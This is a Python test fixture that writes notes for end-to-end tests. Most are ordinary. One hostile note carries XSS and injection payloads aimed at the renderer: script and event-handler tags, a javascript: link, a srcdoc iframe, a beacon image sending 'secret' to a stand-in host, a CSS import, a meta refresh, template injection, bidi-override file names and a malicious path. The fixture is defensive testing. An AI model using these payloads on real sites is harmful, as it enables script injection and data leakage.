"""The notes of the end-to-end tests: some bundled ones, small ones, and one that is hostile."""

import shutil
from pathlib import Path

BUNDLED = Path(__file__).parents[2] / "notes"
COPIED = ("network/elb.md", "network/nat.md", "network/vpc.md", "compute/lambda.md")

# Of a note, where the chat is set so.
MOST_BYTES = 100_000

OWN = {
    "memo/湯.md": "---\ntags: [温泉]\n---\n# 温泉の覚え書き\n\n"
    "## 草津の湯\n\n草津の湯は強い酸性で、pH は 2.1 です。\n\n"
    "## 別府の湯\n\n別府では砂むし風呂に入れます。砂むしは 15 分までにします。\n",
    "memo/窯.md": "# 陶芸の覚え書き\n\n"
    "## 素焼き\n\n素焼きの窯は 800 度で焼きます。\n\n"
    "## 本焼き\n\n本焼きの窯は 1,230 度で焼きます。\n",
}

# What each piece shows where it is taken for text is its own sentinel, 甲 to 壬.
HOSTILE_LINES = (
    "罠の合言葉は青いかわせみです。<script>window.pwned='script'</script>甲",
    "<img src=x onerror=\"window.pwned='onerror'\">乙",
    "[押すな](javascript:window.pwned='link')丙",
    "![絵](https://beacon.example/pixel.png?q=secret)丁",
    '<iframe src="https://frame.example/" srcdoc="<script>parent.pwned=\'frame\'</script>">戊',
    "<svg onload=\"window.pwned='svg'\"></svg>己",
    '<style>body{display:none}@import "https://style.example/a.css";</style>庚',
    '<meta http-equiv="refresh" content="0;url=https://meta.example/">辛',
    '<form action="https://form.example/"><input autofocus onfocus="window.pwned=\'focus\'">壬',
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    '<button class="mark" data-turn="0" data-marker="1">[1]</button>',
    "\u202egnp.exe\u202c と \u2066abc\u2069",
)
HOSTILE_HEADING = '罠の節 <img src=x onerror="window.pwned=1">'
HOSTILE_PATH = "memo/\"><img src=x onerror='pwned=2'>.md"


def write_notes(folder: Path) -> Path:
    """Write the notes into a new folder, and return it."""
    for name in COPIED:
        write_note(folder, name, (BUNDLED / name).read_text(encoding="utf-8"))
    for name, text in OWN.items():
        write_note(folder, name, text)
    lines = "\n\n".join(HOSTILE_LINES)
    front = '---\ntags: ["<b onclick=pwned=3>札</b>"]\n---\n'
    write_note(folder, HOSTILE_PATH, f"{front}# 罠\n\n## {HOSTILE_HEADING}\n\n{lines}\n")
    return folder


def write_note(folder: Path, name: str, text: str) -> None:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def copy_bundled_notes(folder: Path) -> Path:
    """Copy all bundled notes into a new folder, and return it."""
    return Path(shutil.copytree(BUNDLED, folder))
